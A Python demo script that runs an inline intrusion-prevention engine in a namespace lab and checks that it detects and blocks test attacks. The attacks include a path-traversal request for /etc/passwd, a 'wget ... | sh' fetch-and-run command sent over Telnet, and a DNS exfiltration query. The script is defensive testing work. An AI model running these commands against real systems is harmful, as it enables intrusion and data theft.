#!/usr/bin/env python3
"""The demo: hangu inline between a client and a server, an attack, a block, its end; then the same traffic replayed.

usage: story.py BUILD          as root; everything made is removed at the end
"""
import json
import os
import pathlib
import subprocess
import sys
import tempfile
import time

sys.dont_write_bytecode = True
HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent.parent / 'tests' / 'system'))
from lab import CLIENT, SERVER, Lab, until  # noqa: E402

ATTACKER = '203.0.113.66'


def say(english, chinese):
	print('\n== %s\n   %s' % (english, chinese), flush=True)


def note(text):
	print('   ' + text, flush=True)


class Story:
	def __init__(self, lab, build, folder):
		self.lab, self.build, self.folder = lab, build, folder
		self.config = self.write_config()
		self.programs = []

	def __enter__(self):
		return self

	def __exit__(self, *_):
		for p in self.programs:
			p.kill()
			p.wait()

	def write_config(self):
		text = (HERE / 'boundary.yaml').read_text(encoding='utf-8')
		for mark, value in (('folder', self.folder), ('rules', str(HERE / 'boundary.rules')),
		                    ('server', self.lab.names['server'])):
			text = text.replace('@%s@' % mark, value)
		path = pathlib.Path(self.folder, 'hangu.yaml')
		path.write_text(text, encoding='utf-8')
		return str(path)

	def program(self, name, *words, who=None):
		command = [str(self.build / name), *words]
		if who is not None:
			command = ['ip', 'netns', 'exec', self.lab.names[who], *command]
		said = open('%s/%s.said' % (self.folder, name), 'w', encoding='utf-8')
		self.programs.append(subprocess.Popen(command, stdout=said, stderr=said))
		return self.programs[-1]

	def ready(self, what):
		if not until(lambda: os.path.exists('%s/%s' % (self.folder, what)), 30):
			for said in pathlib.Path(self.folder).glob('*.said'):
				sys.stderr.write(said.read_text(encoding='utf-8'))
			sys.exit('%s did not come / 未能启动' % what)

	def set_up_hosts(self):
		lab, folder = self.lab, pathlib.Path(self.folder)
		lab.on('client', 'ip', 'addr', 'add', ATTACKER + '/32', 'dev', 'c0')
		lab.on('server', 'ip', 'route', 'add', ATTACKER + '/32', 'dev', 's0')
		(folder / 'www').mkdir()
		(folder / 'www' / 'index.html').write_text('<h1>notices of the day</h1>\n', encoding='utf-8')
		(folder / 'nginx.conf').write_text(
			'pid %s/nginx.pid; error_log %s/nginx.log; user root; events { }\n'
			'http { access_log off; server { listen %s:80; root %s/www; } }\n' % (folder, folder, SERVER, folder),
			encoding='utf-8')
		lab.start('server', 'nginx', '-c', str(folder / 'nginx.conf'))
		lab.start('server', sys.executable, str(HERE / 'services.py'), SERVER, str(HERE / 'login'))
		lab.start('client', 'tcpdump', '-q', '-U', '-i', 'c0', '-w', str(folder / 'demo.pcap'))

	def fetch(self, path, source=CLIENT, seconds='2'):
		r = self.lab.on('client', 'curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', '--path-as-is', '-m', seconds,
		                '--interface', source, 'http://%s%s' % (SERVER, path))
		return r.stdout if r.returncode == 0 else 'no answer / 无应答'

	def telnet(self, *lines):
		words = ['ip', 'netns', 'exec', self.lab.names['client'], 'timeout', '10', 'telnet', SERVER]
		with subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as p:
			for line in lines:
				time.sleep(0.4)
				p.stdin.write(line.encode() + b'\n')
				p.stdin.flush()
			time.sleep(0.4)

	def ask_name(self, name):
		self.lab.on('client', sys.executable, '-c',
		            'import socket, sys\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\n'
		            'n = b"".join(bytes([len(x)]) + x.encode() for x in sys.argv[2].split("."))\n'
		            's.sendto(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + n + b"\\0\\0\\1\\0\\1", (sys.argv[1], 53))\ns.recv(512)',
		            SERVER, name)

	def events(self, name='eve.json'):
		with open('%s/%s' % (self.folder, name), encoding='utf-8') as f:
			return [json.loads(line) for line in f if line.endswith('\n')]


def told(e):
	"""A line of the story; None: not worth one."""
	ends = '%s:%s -> %s:%s' % (e.get('src_ip'), e.get('src_port', ''), e.get('dest_ip'), e.get('dest_port', ''))
	kind = e['event_type']
	if kind == 'alert':
		done = 'dropped 已丢弃' if e['alert']['action'] == 'blocked' else 'alert 告警'
		return '!! %s  %s\n%20s%s' % (done, e['alert']['signature'], '', ends)
	if kind == 'http':
		h = e['http']
		return '   page 网页  %s %s -> %s' % (h.get('http_method'), h.get('url'), h.get('status', '-'))
	if kind == 'telnet':
		return '   telnet 会话  %s, %s lines typed 行输入' % (ends, e['telnet'].get('client_lines', '?'))
	if kind == 'dns' and e['dns']['type'] == 'answer':
		return '   name 域名  %s %s -> %s' % (e['dns'].get('rrtype'), e['dns'].get('rrname'), e['dns'].get('rcode'))
	if kind == 'drop' and e['drop']['reason'] == 'blocked':
		return 'xx first packet of a blocked source 被封源的首个报文  %s' % ends
	if kind == 'block' and e['block']['action'] in ('requested', 'enforced', 'expired'):
		b = e['block']
		where = ' on %s, %s us after the alert 微秒' % (b['target'], b['latency_us']) if 'latency_us' in b else ''
		return '## block 封禁 %s  %s%s' % (b['action'], b.get('address'), where)
	return None


def live(s):
	s.set_up_hosts()
	say('hangu stands inline between them; linkd listens to it, and may write to the firewall of the server',
	    'hangu 串接在两者之间；linkd 接收告警，并可下发到服务器防火墙')
	engine = s.program('hangu', 'run', '-c', s.config, '--inline', 'b0,b1', who='box')
	s.ready('control.sock')
	linkd = s.program('hangu-linkd', 'run', '-c', s.config)
	s.ready('linkd.sock')
	until(lambda: s.fetch('/index.html') == '200')
	say('the client %s reads a page and opens a Telnet session' % CLIENT, '客户端读取网页并登录 Telnet')
	note('page / 网页: %s' % s.fetch('/index.html'))
	s.telnet('guest', 'secret', 'show version')
	say('an attacker, %s, climbs to the password file' % ATTACKER, '攻击者尝试路径穿越')
	note('attack / 攻击: %s' % s.fetch('/cgi/../../../etc/passwd', ATTACKER))
	shut_out = s.fetch('/index.html', ATTACKER)
	note('the attacker asks for a harmless page / 攻击者再访问正常网页: %s' % shut_out)
	unharmed = s.fetch('/index.html')
	note('the client at the same time / 此时客户端: %s' % unharmed)
	say('in the table of the engine, and in nftables of the server', '引擎封禁表与服务器 nftables')
	print(subprocess.run([str(s.build / 'hangu-linkd'), 'ctl', '-s', s.folder + '/linkd.sock', 'list'],
	                     capture_output=True, text=True).stdout)
	in_nft = ATTACKER in s.lab.on('server', 'nft', 'list', 'set', 'inet', 'hangu', 'host4').stdout
	note('nft list set inet hangu host4: %s' % (ATTACKER if in_nft else '-'))
	say('meanwhile: a script fetched over Telnet, data carried out in names; both are told', '同时：Telnet 下载脚本、域名外传数据，均告警')
	s.telnet('root', '123456', 'wget http://203.0.113.9/bot.sh -O- | sh')
	s.ask_name('6d6f6e65792e747874207061727420310a6d6f6e65792e747874.exfil.example')
	say('the block ends by itself', '封禁到期自动解除')
	again = until(lambda: s.fetch('/index.html', ATTACKER, '1') == '200', 20)
	note('the attacker, later / 稍后的攻击者: %s' % ('200' if again else 'no answer / 无应答'))
	for p in (linkd, engine):
		p.terminate()
		p.wait(30)
	return {'the attacker is shut out': shut_out != '200', 'the client never notices': unharmed == '200',
	        'nftables has the block': in_nft, 'the block ends': bool(again)}


def tell(s):
	say('the story, as eve.json and block.json tell it', 'eve.json 与 block.json 记录的经过')
	lines = [(e['timestamp'], told(e)) for e in s.events() + s.events('block.json')]
	for at, text in sorted((at, text) for at, text in lines if text):
		print('%s %s' % (at[11:23], text))
	return {e['alert']['signature_id'] for e in s.events() if e['event_type'] == 'alert'}


def replay(s):
	say('a capture of the same traffic, replayed: the same alerts', '同一流量的抓包回放：告警相同')
	subprocess.run([str(s.build / 'hangu'), 'replay', '-c', s.config, '--simulate-ips', '-l', s.folder + '/replay', '--summary',
	                s.folder + '/demo.pcap'], check=True)
	return {e['alert']['signature_id'] for e in s.events('replay/eve.json') if e['event_type'] == 'alert'}


def main(build):
	with tempfile.TemporaryDirectory() as folder, Lab() as lab:
		os.chmod(folder, 0o755)
		say('three hosts: a client %s outside, a server %s inside, the box between' % (CLIENT, SERVER),
		    '三台主机：外部客户端、内部服务器，以及中间的设备')
		with Story(lab, build, folder) as s:
			checks = live(s)
			alerts = tell(s)
			checks['all three attacks are told'] = alerts == {1, 2, 3}
			checks['a replay tells the same'] = replay(s) == alerts
	print()
	for what, good in checks.items():
		print('%s %s' % ('ok  ' if good else 'FAIL', what))
	return 0 if all(checks.values()) else 1


if __name__ == '__main__':
	if len(sys.argv) != 2:
		sys.exit(__doc__)
	sys.exit(main(pathlib.Path(sys.argv[1]).resolve()))
